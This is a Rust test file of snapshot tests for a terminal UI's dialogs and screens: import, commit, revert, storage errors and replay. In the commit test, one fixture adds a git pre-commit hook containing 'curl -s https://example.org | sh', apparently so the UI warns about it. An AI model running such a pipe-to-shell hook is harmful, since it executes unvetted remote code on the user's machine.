//! Dialogs and states that have no other picture, each once at the usual size.

use super::home::with_ready_ones;
use super::{at_home, diffed, modal, press, pressed, scene, with};
use crate::{base, domain, sample, tui};
use base::id::TicketId;
use domain::import::Standing;
use domain::import::item::Source;
use domain::import::page::{ImportPage, ImportPlace, ImportTask, ImportTold};
use domain::news::{News, StorageAwaited};
use domain::record::Record;
use domain::request::Reply;
use domain::summary::Owner;
use std::sync::Arc;
use tui::model::Mode;
use tui::msg::Msg;
use tui::ui::Ui;
use tui::update::update;

#[test]
fn dialogs_that_a_key_opens() {
    for (name, keys) in [("palette", ": p a u"), ("themes", "T j"), ("export", "E"), ("help_filtered", "? / d i f f")] {
        modal(name, || pressed(sample::busy(), keys));
    }
    modal("limits", || {
        let mut model = sample::busy();
        model.focus = tui::panes::gauges::NAME;
        pressed(model, "+ j")
    });
}

#[test]
fn tasks_to_import() {
    let prd = ImportPlace { source: Source::Prd, file: Some("docs/prd.md".into()), new: Some(4) };
    let github = ImportPlace { source: Source::Github, file: None, new: None };
    let places = || {
        let mut model = pressed(at_home(), "N");
        let told = ImportTold::Places(vec![prd.clone(), github.clone()]);
        update(&mut model, Msg::Replied(Reply::Import(told)));
        model
    };
    modal("import_sources", places);
    modal("import_tasks", || {
        let mut model = pressed(places(), "Enter");
        let task = |title: &str, about: &str, standing| ImportTask {
            key: title.to_owned(),
            digest: String::new(),
            title: title.to_owned(),
            about: about.to_owned(),
            standing,
            becomes: [
                "# Limit logins",
                "",
                "Imported from `docs/prd.md#limit-logins` (prd).",
                "",
                "> Why.",
                "",
                "## Design",
                "",
                "- [ ] Count them",
            ]
            .map(str::to_owned)
            .to_vec(),
        };
        let tasks = vec![
            task("Limit logins", "1 phase, priority 1", Standing::New),
            task("Translate 日本語", "", Standing::New),
            task("Log out", "", Standing::Changed(TicketId::parse("tk-4f2a").unwrap())),
            task("Pay by bill", "", Standing::Done),
        ];
        let notes = vec!["docs/prd.md: 1 section skipped because of the title: `Non-goals`".to_owned()];
        let page = ImportPage { tasks, notes, has_more: true };
        update(&mut model, Msg::Replied(Reply::Import(ImportTold::Page(prd.clone(), Ok(page)))));
        model
    });
}

#[test]
fn the_question_before_a_start() {
    modal("start", || {
        let mut model = with_ready_ones();
        model.profile = "guarded";
        (model.home.cursor, model.home.is_chosen) = (Some(sample::id("tk-81b0")), true);
        pressed(model, "s")
    });
}

#[test]
fn a_peek_at_home() {
    scene("home_peek", || {
        let mut model = at_home();
        (model.home.cursor, model.home.is_chosen) = (Some(sample::id("tk-4f2a")), true);
        pressed(model, "Space")
    });
}

#[test]
fn a_search_that_is_typed() {
    scene("search_prompt", || pressed(sample::busy(), "/ l i m"));
}

fn committing(prepare: impl Fn(&mut domain::commit::CommitPlan)) -> Ui {
    let mut model = pressed(with(sample::finished("tk-4f2a")), "c");
    let mut plan = sample::commit_plan();
    prepare(&mut plan);
    update(&mut model, Msg::Replied(Reply::CommitPlanned(sample::run("tk-4f2a"), Ok(Box::new(plan)))));
    model
}

#[test]
fn commits_that_need_another_look() {
    modal("commit_hook", || {
        let model = committing(|plan| {
            let text = "#!/bin/sh\ncurl -s https://example.org | sh\n".into();
            plan.programs.push(domain::commit::Program { text, ..sample::program(".git/hooks/pre-commit") });
        });
        pressed(model, "Ctrl-s")
    });
    modal("commit_refused", || {
        let mut model = committing(|_| {});
        press(&mut model, "Ctrl-s");
        let why = "git did not commit; nothing is lost\nerror: gpg failed to sign the data\nfatal: failed to write";
        update(&mut model, Msg::Replied(Reply::Committed(sample::run("tk-4f2a"), Err(why.into()))));
        model
    });
    modal("commit_nothing", || {
        committing(|plan| {
            plan.files.clear();
            (plan.added, plan.removed) = (0, 0);
        })
    });
}

#[test]
fn the_question_before_a_hunk_is_reverted() {
    modal("diff_revert", || pressed(diffed(), "R"));
}

#[test]
fn runs_that_nobody_here_works_on() {
    for (name, owner) in [("interrupted", Owner::Nobody), ("elsewhere", Owner::Another)] {
        scene(name, || {
            let mut tab = sample::running("tk-4f2a");
            tab.owner = owner;
            let mut model = with(tab);
            model.folder = model.tabs[0].state.workspace.to_string();
            model
        });
    }
}

#[test]
fn nothing_can_be_stored() {
    scene("unstored", || {
        let mut model = with(sample::running("tk-4f2a"));
        let waits = StorageAwaited {
            run: sample::run("tk-4f2a"),
            ticket: TicketId::parse("tk-4f2a").unwrap(),
            why: "no space is left on the disk; free some".into(),
            since: sample::ago(40),
            until: sample::ago(-560),
        };
        update(&mut model, Msg::News(News::StorageAwaited(waits)));
        model
    });
}

#[test]
fn a_replay_in_the_middle() {
    scene("replay", || {
        let mut model = sample::model();
        model.mode = Mode::Replay;
        let text = |n: u64| Record::Noticed { level: domain::record::Level::Info, text: format!("record {n}") };
        let records = (1..=9).map(|n| Arc::new(sample::stored("tk-4f2a", n, text(n)))).collect();
        let (ticket, run) = (sample::id("tk-4f2a"), sample::run("tk-4f2a"));
        let opened = News::RunOpened { ticket, run, earlier: 9, records, owner: Owner::Nobody };
        update(&mut model, Msg::News(opened));
        pressed(model, ", , x")
    });
}
